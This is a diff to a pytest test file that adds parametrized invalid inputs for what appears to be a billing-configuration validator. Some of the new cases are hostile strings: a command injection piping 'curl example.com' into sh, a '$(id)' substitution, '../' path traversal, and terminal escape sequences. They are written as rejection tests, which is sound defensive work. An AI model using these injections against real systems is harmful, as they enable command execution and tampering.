@@ -137,6 +137,10 @@ def _with(**fields: Any) -> Any:
     return lambda head, _: head.update(fields)
 
 
+def _with_price(**fields: Any) -> Any:
+    return lambda head, _: head["prices"][0].update(fields)
+
+
 @pytest.mark.parametrize(
     "change",
     [
@@ -161,6 +165,13 @@ def _with(**fields: Any) -> Any:
         _with(proration="later"),
         _with(further=1),
         _with(undoes="../shop"),
+        _with(environment="live; curl example.com | sh"),
+        _with(account="acct_\x1b[31m"),
+        _with(account="acct 1"),
+        _with(key={"account": "$(id)", "livemode": True}),
+        _with_price(stack="../shop"),
+        _with_price(address="stripe_price.\x1b]0;"),
+        _with_price(interval="mo\nnth"),
         _without("prices"),
     ],
 )
